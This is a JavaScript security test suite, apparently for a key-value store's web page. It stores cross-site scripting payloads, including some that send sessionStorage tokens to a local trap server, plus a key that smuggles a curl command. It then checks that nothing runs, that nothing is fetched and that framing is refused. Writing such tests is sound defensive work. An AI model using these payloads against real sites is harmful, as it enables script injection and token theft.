// What others store and would like to run: it never does, and the page is never framed.

import crypto from 'node:crypto';
import http from 'node:http';
import { until } from './checks.mjs';

/** A server of another origin, which counts what it is asked. */
async function trap() {
  const asked = [];
  const server = http.createServer((request, answer) => {
    asked.push(request.url);
    answer.writeHead(200, { 'Content-Type': 'text/html' }).end('<p>page');
  });
  await new Promise(done => server.listen(0, '127.0.0.1', done));
  server.unref();
  return { asked, url: `http://127.0.0.1:${server.address().port}`, close: () => { server.closeAllConnections(); server.close(); } };
}

/** A script that would do harm: by a dialog, by asking others, by a key of its own, by a token that it reads. */
const script = url => `alert(1);fetch("${url}/asked");fetch("/kv/owned",{method:"PUT",body:"x"});`
  + `new Image().src="${url}/"+JSON.stringify(sessionStorage);window.owned=true`;

const hostileValues = url => {
  const run = script(url);
  const html = `<!doctype html><script>${run}</script><img src="${url}/img" onerror='${run}'>`
    + `<iframe src="javascript:${run}"></iframe><link rel="stylesheet" href="${url}/css">`
    + `<form action="${url}/form"><input autofocus onfocus='${run}'>`;
  const refresh = `<meta http-equiv="refresh" content="0;url=${url}/refresh">${html}`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload='${run}'><script>${run}</script>`
    + `<image href="${url}/svg" width="9" height="9"/><foreignObject width="9" height="9">`
    + `<img xmlns="http://www.w3.org/1999/xhtml" src="${url}/foreign" onerror='${run}'/></foreignObject></svg>`;
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${run}</script></body></html>`;
  return [
    ['evil.html', html, 'text/html'], ['refreshed page', refresh, 'text/html'], ['evil-charset.html', html, 'text/html; charset=utf-8'], ['evil.svg', svg, 'image/svg+xml'],
    ['evil.xhtml', xhtml, 'application/xhtml+xml'], ['evil.xml', xhtml, 'text/xml'], ['evil-app.xml', svg, 'application/xml'],
    ['evil.rdf', xhtml, 'application/rdf+xml'], ['evil.js', run, 'text/javascript'], ['evil.mhtml', html, 'multipart/related'],
    ['sniffed', html, undefined], ['sniffed-png', html, 'image/png'], ['sniffed-odd', html, 'odd/type'], ['upper.html', html, 'TEXT/HTML'],
    ['evil.json', `{"a":"</script><script>${run}</script><img src=x onerror='${run}'>","__proto__":{"x":1}}`, 'application/json'],
    ['evil.txt', `</pre></textarea><script>${run}</script><img src=x onerror='${run}'>`, 'text/plain'],
    ['type', 'x', `text/plain; x="<img src=${url}/type onerror=alert(1)>"`],
    [`<img src="${url}/key" onerror="${run}">`, 'x', 'text/plain'], [`"><script>${run}</script>`, 'x', 'text/plain'],
    [`javascript:${run}`, 'x', 'text/plain'], [`${url}/`, 'x', 'text/plain'], [`';curl ${url}/shell;'`, 'x', 'text/plain'],
  ];
};

/** Nothing that is stored runs in the page. */
export async function hostile(scene) {
  const { checks } = scene;
  const there = await trap();
  const store = await scene.store();
  const values = hostileValues(there.url);
  for (const [key, value, type] of values) await store.put(key, value, { type });
  const count = await store.count();
  const tab = await scene.tab(store);
  await tab.page.evaluate(() => sessionStorage.setItem('secret', 'token'));
  for (const [key, value] of values) {
    await tab.openKey(key);
    await until(async () => (await tab.fact('Size')) && (await tab.shown.locator('pre, img').count()) > 0);
    const elements = 'iframe, object, embed, base, meta[http-equiv], script[src], link[href^="http"]';
    checks.check(`${JSON.stringify(key.slice(0, 30))} is nothing but shown`, [undefined, 0],
      [await tab.page.evaluate(() => window.owned), await tab.page.locator(elements).count()]);
    await tab.button('Edit').click();
    checks.check('    and edited as it is', value, await tab.editor.inputValue());
    await tab.button('Cancel').click();
    await scene.runs(tab);
  }
  // The other places for a key: a folder, the filter, addresses that others have made.
  await store.put(`${values.at(-1)[0]}/below`, 'x');
  await tab.open('#/');
  await until(async () => (await tab.rows()).includes("';curl http:"));
  await tab.search.fill('<img src=x onerror=alert(1)>');
  await tab.page.goto(`${store.url}/#/kv/%3Cimg src=x onerror=alert(1)%3E`);
  await until(() => tab.key());
  await tab.page.goto(`${store.url}/#/?prefix=<img src=x onerror=alert(1)>`);
  await tab.page.goto(`${store.url}/#/kv/%`);
  await tab.page.goto(`${store.url}/#javascript:alert(1)`);
  await tab.search.waitFor();
  checks.check('nothing was stored by it', count + 1, await store.count());
  checks.check('and nobody else was asked', [], there.asked);
  there.close();
}

/** Nor does it where a browser opens it itself, in a tab that holds a token. */
export async function opened(scene) {
  const { checks } = scene;
  const there = await trap();
  const store = await scene.store();
  const values = hostileValues(there.url).filter(([key]) => /^[\w.-]+$/.test(key));
  for (const [key, value, type] of values) await store.put(key, value, { type });
  const count = await store.count();
  const tab = await scene.tab(store);
  await tab.page.evaluate(() => sessionStorage.setItem('secret', 'token'));
  for (const [key] of values) {
    // A download is no page, and ends the navigation.
    await tab.page.goto(`${store.url}/kv/${key}`).catch(() => {});
    const owned = await tab.page.evaluate(() => window.owned).catch(() => undefined);
    checks.check(`${key}: no script of it runs`, [undefined, []], [owned, tab.faults.filter(fault => fault.startsWith('a dialog'))]);
    // What was refused is told as an error, and pictures of others are its own affair.
    tab.faults.length = 0;
  }
  // As the store's own origin: what one has left there could be read by the next.
  await tab.open();
  checks.check('none has reached what the tab keeps', 'token', await tab.page.evaluate(() => sessionStorage.getItem('secret')));
  tab.faults.length = 0;
  checks.check('nothing was stored by one', count, await store.count());
  checks.check('nor has one read a token', [], there.asked.filter(url => /asked|token|secret/.test(url)));
  there.close();
}

/** The page's own fields, and that nobody frames it. */
export async function policy(scene) {
  const { checks } = scene;
  const there = await trap();
  const store = await scene.store({}, [['a', 'one']]);
  const page = await store.ask('GET', '/', { headers: { Accept: 'text/html,application/xhtml+xml,*/*;q=0.8' } });
  const manual = await store.ask('GET', '/', { headers: { Accept: '*/*' } });
  checks.check('a browser gets the page', [200, true], [page.status, page.headers['content-type'].startsWith('text/html')]);
  checks.check('and curl the manual', [200, true], [manual.status, manual.headers['content-type'].startsWith('text/plain')]);
  checks.check('each says that it depends on Accept', [true, true], [page, manual].map(({ headers }) => /\baccept\b/i.test(headers.vary)));
  checks.check(`it is small (${page.bytes.length} bytes)`, true, page.bytes.length <= 48 * 1024);
  const header = page.headers['content-security-policy'] ?? '';
  const rules = Object.fromEntries(header.split(';').map(rule => rule.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
  checks.check('what its policy does not name is forbidden', [["'none'"], ["'none'"], false],
    [rules['default-src'], rules['frame-ancestors'], header.includes('unsafe-')]);
  const hashes = tag => [...page.bytes.toString().matchAll(new RegExp(`<${tag}[^>]*>([^]*?)</${tag}>`, 'g'))]
    .map(([, text]) => `'sha256-${crypto.createHash('sha256').update(text).digest('base64')}'`);
  checks.check('its script and its style alone run', [hashes('script'), hashes('style')], [rules['script-src'], rules['style-src']]);

  const tab = await scene.tab(store);
  await tab.item('a').waitFor();
  const [owned, refused] = await tab.page.evaluate(async () => {
    const seen = new Set();
    document.addEventListener('securitypolicyviolation', event => seen.add(event.effectiveDirective.split('-').slice(0, 2).join('-')));
    const attempts = [
      () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.owned = 1' })),
      () => { document.body.setAttribute('onclick', 'window.owned = 2'); document.body.click(); },
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror="window.owned = 3">'),
      () => setTimeout('window.owned = 4'),
      () => document.body.append(Object.assign(document.createElement('img'), { src: 'http://127.0.0.1:9/x' })),
      () => fetch('http://127.0.0.1:9/').catch(() => {}),
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:9/' })),
    ];
    for (const attempt of attempts) {
      try { attempt(); } catch { /* Refused at once. */ }
    }
    for (let tries = 0; tries < 1200 && seen.size < 4; tries += 1) await new Promise(done => setTimeout(done, 50));
    return [window.owned, [...seen]];
  });
  checks.check('what is put into it does not run', undefined, owned);
  checks.check('and loads nothing', ['connect-src', 'frame-src', 'img-src'], refused.filter(rule => /^(connect|frame|img)/.test(rule)).sort());
  tab.faults.length = 0;

  for (const origin of ['another', 'its own']) {
    const framing = await scene.blank(store);
    await framing.page.goto(origin === 'another' ? there.url : `${store.url}/livez`);
    await framing.page.evaluate(src => { document.body.append(Object.assign(document.createElement('iframe'), { src })); }, store.url);
    await checks.becomes(`a page of ${origin} origin cannot frame it`, 'chrome-error://chromewebdata/',
      () => framing.page.frames()[1]?.url());
    framing.faults.length = 0;
  }
  there.close();
}
